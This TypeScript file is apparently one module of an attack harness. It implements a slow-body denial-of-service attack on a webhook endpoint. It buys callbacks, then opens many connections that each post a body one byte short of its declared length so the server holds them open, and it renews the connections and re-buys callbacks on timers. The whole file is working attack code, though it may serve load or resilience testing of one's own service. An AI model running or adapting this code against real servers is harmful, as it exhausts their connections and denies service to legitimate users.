/** Attack 8: webhooks that stop a byte short, as many as their callbacks take: bodies that a server may hold for 30 s. */
import { type Attack, attackerAt, BUYER, Counts, type Figures, Repeated, type Target } from './attack.ts';
import { buyCallback, type Callback, Purse } from './purse.ts';
import { headOf, Wires } from './wire.ts';

const BODY_BYTES = 262_144;
/** callback.md: requests to one callback in a minute. */
const POSTS_PER_CALLBACK = 30;
/** The rate of a callback lets the next posts in by then; the server has answered the last ones 408. */
const RENEW_MS = 61_000;
const REBUY_MS = 480_000;

export class StoppedBodies implements Attack {
  readonly #counts = new Counts();
  readonly #loop = new Repeated();
  readonly #callbackCount: number;
  #callbacks: Callback[] = [];
  #wires: Wires | undefined;

  /** @param intensity callbacks, of 30 posts each */
  constructor(intensity: number) {
    this.#callbackCount = intensity;
  }

  async start(target: Target): Promise<void> {
    await this.#buy(target);
    const body = Buffer.alloc(BODY_BYTES - 1, 'a');
    const lines = ['Content-Type: text/plain', `Content-Length: ${BODY_BYTES}`];
    const bytes = (index: number): Buffer => {
      const { id } = this.#callbacks[index % this.#callbackCount]!;
      return Buffer.concat([Buffer.from(headOf(target, 'POST', `/hooks/${id}`, attackerAt(index), ...lines)), body]);
    };
    this.#wires = new Wires(
      target,
      {
        count: this.#callbackCount * POSTS_PER_CALLBACK,
        from: attackerAt,
        bytes,
        isReading: true,
        renewMs: RENEW_MS,
        reopenMs: RENEW_MS / 2,
      },
      this.#counts,
    );
    this.#wires.open();
    this.#buyAgain(target);
  }

  async #buy(target: Target): Promise<void> {
    const purse = new Purse(target, BUYER);
    const bought: Callback[] = [];
    for (let i = 0; i < this.#callbackCount; i++) bought.push(await buyCallback(target, purse, BUYER));
    this.#callbacks = bought;
  }

  #buyAgain(target: Target): void {
    this.#loop.after(REBUY_MS, () => {
      void this.#buy(target).catch(() => this.#counts.add('callbacks refused'));
      this.#buyAgain(target);
    });
  }

  stop(): void {
    this.#loop.stop();
    this.#wires?.close();
  }

  get figures(): Figures {
    return this.#counts.figures;
  }
}
